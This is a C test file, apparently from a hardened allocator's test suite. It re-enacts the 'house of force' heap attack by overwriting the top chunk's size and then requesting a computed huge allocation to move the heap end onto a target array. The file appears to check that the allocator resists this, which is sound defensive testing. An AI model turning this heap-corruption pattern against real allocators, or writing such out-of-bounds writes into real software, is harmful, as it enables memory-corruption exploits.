/* "House of force": the size of what is left of the heap, behind its last object, is made huge, and a huge request moves
 * the heap's end to the attacker's target. */
#include "attack.h"

static _Alignas(64) uint64_t target[64];

int main(void)
{
	begin();
	hold(target, sizeof target);
	void *large = hide(make(3000));
	MUST(large);
	char *p = NULL;
	for (int i = 0; i < 100; i++)
		p = make(0x108);
	size_t usable = malloc_usable_size(p);
	crime(p);
	scribble(p + usable, 0xff, 8);
	size_t far = (uintptr_t)target - (uintptr_t)p - usable - 32;
	hide(malloc(hide_size(far)));
	for (int i = 0; i < 100; i++) {
		void *q = make(0x108);
		if (q && taken(q, 0x108))
			return survived();
	}
	free(hide(p));
	return aftermath(0x108);
}
